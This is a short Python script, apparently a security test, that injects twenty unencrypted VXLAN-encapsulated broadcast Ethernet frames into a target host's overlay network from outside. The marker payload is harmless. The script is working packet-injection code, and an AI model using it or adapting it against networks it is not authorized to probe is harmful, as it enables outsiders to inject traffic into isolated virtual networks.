"""Sends unencrypted frames to a host's VXLAN, as a stranger on its network could. Arguments: its address, a device, the VXLAN's
identifier and port. Each has a broadcast of an unused kind of Ethernet frame in it."""

import socket
import struct
import sys

address, device, vni, port = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
header = struct.pack("!II", 0x08000000, vni << 8)
inner = (
    b"\xff" * 6 + bytes.fromhex("02000000beef") + struct.pack("!H", 0x88B5) + b"injected by a stranger".ljust(60, b".")
)
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
    for _ in range(20):
        sender.sendto(header + inner, (address, port, 0, socket.if_nametoindex(device)))
